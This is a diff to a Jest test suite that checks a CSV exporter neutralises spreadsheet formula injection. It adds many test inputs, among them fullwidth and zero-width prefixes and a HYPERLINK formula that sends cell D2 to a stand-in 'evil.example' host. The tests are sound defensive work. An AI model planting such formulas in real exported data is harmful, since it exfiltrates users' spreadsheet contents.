@@ -1,6 +1,7 @@
 import { expect, test } from '@jest/globals';
 import fc from 'fast-check';
 import { csvOf, recordsOf } from '../../src/domain/csv';
+import { guardFormula } from '../../src/domain/csv-guard';
 
 /** Reads RFC 4180 as a program would that knows nothing of ours. */
 const parse = (csv: string): string[][] => {
@@ -31,19 +32,31 @@ test('texts come back as they were, and one like a formula with an apostrophe in
   fc.assert(
     fc.property(fc.array(cells, { minLength: 1 }), (rows) => {
       const safe = (cell: string | number | boolean): string =>
-        typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : String(cell);
+        typeof cell === 'string' ? guardFormula(cell) : String(cell);
       expect(parse(csvOf(rows).slice(1))).toEqual(rows.map((row) => row.map(safe)));
     }),
   );
 });
 
-test.each(['=IMPORTDATA("x")', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])(
-  'no cell of a CSV file begins like %j',
-  (text) => {
-    expect(csvOf([[text, -5]])).toContain(`'${text}`.replace(/"/g, '""'));
-    expect(csvOf([[text, -5]])).toContain(',-5\r\n');
-  },
-);
+test.each([
+  '=IMPORTDATA("x")',
+  '+1',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '=HYPERLINK("http://evil.example/?x="&D2,\n"click")',
+  '@SUM(1)\n+1',
+  '\n=1+1',
+  '  =1',
+  '\u200b=1',
+  '＝1',
+  '＋1',
+  '＠SUM(1)',
+])('no cell of a CSV file begins like %j', (text) => {
+  expect(csvOf([[text, -5]])).toContain(`'${text}`.replace(/"/g, '""'));
+  expect(csvOf([[text, -5]])).toContain(',-5\r\n');
+});
 
 test('records have a name for every cell, once each', () => {
   expect(
